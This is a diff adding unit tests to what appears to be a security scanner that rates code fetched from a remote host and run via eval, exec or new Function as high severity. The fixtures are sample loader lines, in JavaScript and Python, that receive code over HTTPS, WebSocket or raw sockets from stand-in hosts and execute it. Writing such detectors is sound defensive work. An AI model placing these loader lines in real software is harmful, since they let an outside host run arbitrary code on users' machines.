@@ -3244,6 +3244,16 @@ describe('dynamic-code-execution of downloaded code', () => {
     expect(sink('.vscode/.cache/preload.js', ["require('https').get('https://vscode-ext-cdn.com/p.js', (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => eval(d)); });"])?.severity).toBe('high');
     expect(sink('lib/boot.js', ['require("node:http").request({ host: "10.0.0.5", path: "/p.js" }, (r) => r.on("data", (c) => eval(String(c)))).end();'])?.severity).toBe('high');
   });
+  it('what a WebSocket or a socket to a literal remote host receives, run in the hunk, is high (the loader of the compromised is package, July 2025)', () => {
+    expect(sink('lib/live.js', ["const ws = new WebSocket('wss://cfg.example-cdn.dev/live');", "ws.on('message', (m) => { try { new Function('require', m.toString())(require); } catch {} });"])?.severity).toBe('high');
+    expect(sink('src/sync.js', ["const socket = io('https://sync.example-cdn.dev');", "socket.on('run', (code) => eval(code));"])?.severity).toBe('high');
+    expect(sink('pkg/live.py', ['s = socket.socket()', 's.connect(("cfg.example-cdn.dev", 443))', 'exec(s.recv(65536).decode())'])?.severity).toBe('high');
+    expect(sink('pkg/live.py', ['ws = websocket.create_connection("wss://cfg.example-cdn.dev/live")', 'exec(ws.recv())'])?.severity).toBe('high');
+  });
+  it('a WebSocket whose messages are parsed as data, or a socket to a host held in a variable, keeps eval at its ordinary severity or reports nothing', () => {
+    expect(sink('src/live.js', ["const ws = new WebSocket('wss://updates.acme.example/feed');", 'ws.onmessage = (e) => render(JSON.parse(e.data));'])).toBeUndefined();
+    expect(sink('pkg/client.py', ['s = socket.socket()', 's.connect((host, port))', 'result = eval(expression, {"__builtins__": {}})'])?.severity).toBe('medium');
+  });
   it('eval without a download in its hunk keeps its ordinary severity; a download without a code sink is no finding', () => {
     expect(sink('lib/helper.js', ["const total = eval(expression);", "const mod = require('https-proxy-agent').get;"])?.severity).toBe('medium');
     expect(sink('pkg/helper.py', ['exec(compile(source, path, "exec"))'])?.severity).toBe('medium');
